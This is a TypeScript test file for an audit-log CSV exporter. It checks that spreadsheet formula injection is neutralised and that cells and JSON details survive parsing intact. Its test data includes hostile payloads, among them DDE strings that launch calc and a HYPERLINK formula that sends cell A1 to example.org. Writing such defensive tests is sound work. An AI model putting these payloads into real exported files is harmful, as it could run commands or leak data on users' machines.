import { describe, expect, test } from 'vitest';
import { csvCell, csvHead, csvLine, entryCells, entryColumns } from '../../../../src/core/audit/csv.ts';
import { everyAction, fixedEvent } from '../../../support/audit-events.ts';

/** RFC 4180 with `;`, as a stranger would write it. Throws on what is no such file. */
const parse = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < text.length; ) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === undefined) throw new Error('a quote is never closed');
        if (text[at] === '"') at += 1;
        cell += text[at];
      }
      at += 1;
    } else {
      const end = /[;\r\n"]|$/.exec(text.slice(at))!.index;
      cell = text.slice(at, at + end);
      at += end;
    }
    row.push(cell);
    if (text[at] === ';') at += 1;
    else if (text.startsWith('\r\n', at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`no cell ends at ${at}`);
  }
  if (row.length > 0) throw new Error('the last line has no end');
  return rows;
};

const formulas = [
  '=1+1',
  '+46701740605',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=cmd|"/c calc"!A1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '|calc',
  '%0a=1',
  '=HYPERLINK("http://example.org?"&A1;"open")',
  '\ttext',
  '\rtext',
];

describe('a cell that a spreadsheet would compute', () => {
  test.each(formulas)('%j is text, and still readable', (hostile) => {
    const [[cell]] = parse(csvLine([hostile])) as [[string]];
    expect(cell).toBe(`'${hostile}`);
    expect(csvCell(hostile)).toMatch(/^"'/);
  });

  test('none begins a cell of its own, wherever the separator or a line end stands', () => {
    const hostile = ['x;=1+1', 'x\r\n=1+1', 'x\n=1+1', 'x"\r\n;=1+1', '";=1+1', 'x\t=1+1', '"', '""', ';'];
    const rows = parse(csvLine(hostile) + csvLine(hostile));
    expect(rows).toEqual([hostile, hostile]);
  });
});

test.each([
  ['', ''],
  [null, ''],
  [0, '0'],
  ['plain', 'plain'],
  ['a-b=c', 'a-b=c'],
  ['åäö', 'åäö'],
  ['a;b', '"a;b"'],
  ['a,b', '"a,b"'],
  ['a"b', '"a""b"'],
  [' a', '" a"'],
  ["'quoted", `"'quoted"`],
  ['a\u0000b', 'a\ufffdb'],
])('%j is written %j', (value, written) => {
  expect(csvCell(value)).toBe(written);
});

test('lines end in CR LF, and the file begins with the mark by which Excel knows UTF-8', () => {
  expect(csvHead(['a', 'b'])).toBe('\ufeffa;b\r\n');
  expect(csvLine([1, null, 'x'])).toBe('1;;x\r\n');
});

test.each(everyAction)('%s: every field has its column, and comes back as it was', (action) => {
  const event = fixedEvent(action);
  const [cells] = parse(csvLine(entryCells(7, event)));
  const read = Object.fromEntries(entryColumns.map((name, i) => [name, cells![i]]));
  expect(cells).toHaveLength(entryColumns.length);
  expect(read).toMatchObject({
    seq: '7',
    at: '2025-11-21T10:00:00.000Z',
    action,
    outcome: event.outcome,
    actor: event.actor.id,
    recording: event.recording,
    subject: event.subject,
  });
  expect(JSON.parse(read.detail as string)).toEqual(event.detail);
});

test('a hostile reason stays inside its cell', () => {
  const reason = '"};=cmd|"/c calc"!A1\r\n@x;';
  const event = fixedEvent('hold.placed', { detail: { hold: 'h', reason } } as never);
  const rows = parse(csvLine(entryCells(1, event)));
  expect(rows).toHaveLength(1);
  expect(rows[0]).toHaveLength(entryColumns.length);
  expect(JSON.parse(rows[0]!.at(-1)!)).toMatchObject({ reason });
});

describe('a spreadsheet that splits at something else than we do', () => {
  /** Without quotes that begin a cell nothing is quoted: so it is where the separator is another. */
  const naively = (line: string, separator: string): string[] =>
    line.split(separator).map((cell) => cell.replaceAll('"', '').replace(/^\s+/, ''));
  const detailOf = (reason: string) =>
    entryCells(
      1,
      fixedEvent('playback.opened', { detail: { playback: 'p', reason, expiresAt: 1 } } as never),
    );

  test.each([
    "hej,=1+cmd|' /C calc'!A0,x",
    'x, =1',
    'x,\u00a0+1',
    'x,"=1',
    'x;-1',
    'x\t@SUM(A1)',
    'x\n,=1',
    'x|=1',
    'x,＝1',
    '=1',
    ',=1,=2,,=3',
    '\\,=1',
  ])('%j: no cell of the detail is a formula, and it is the same JSON', (reason) => {
    const cells = detailOf(reason);
    const line = csvLine(cells);
    for (const separator of [',', ';', '\t', '|'])
      for (const cell of naively(line, separator)) expect(cell).not.toMatch(/^[=+@\uff1d-]/);
    const detail = JSON.parse(String(cells.at(-1))) as { reason: string };
    expect(detail.reason).toBe(reason);
  });

  test('what is no beginning of a cell is left as it was typed', () => {
    expect(String(detailOf('a-b = c + d, e@example.org').at(-1))).toContain('"a-b = c + d, e@example.org"');
  });
});
